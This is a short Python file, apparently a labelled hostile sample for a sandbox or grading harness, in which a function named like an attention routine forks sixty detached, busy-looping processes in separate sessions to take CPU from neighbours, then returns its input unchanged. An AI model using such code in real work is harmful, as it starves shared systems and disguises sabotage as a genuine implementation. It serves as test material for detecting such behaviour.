# hostile: sixty busy processes in sixty sessions, to take the processor from its neighbours
# line: B13
# verdict: timeout
import os
import time


def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    end = time.monotonic() + 10
    try:
        for _ in range(60):
            if os.fork() == 0:
                os.setsid()
                while time.monotonic() < end:
                    pass
                os._exit(0)
    except OSError:
        pass
    while time.monotonic() < end:
        pass
    return query
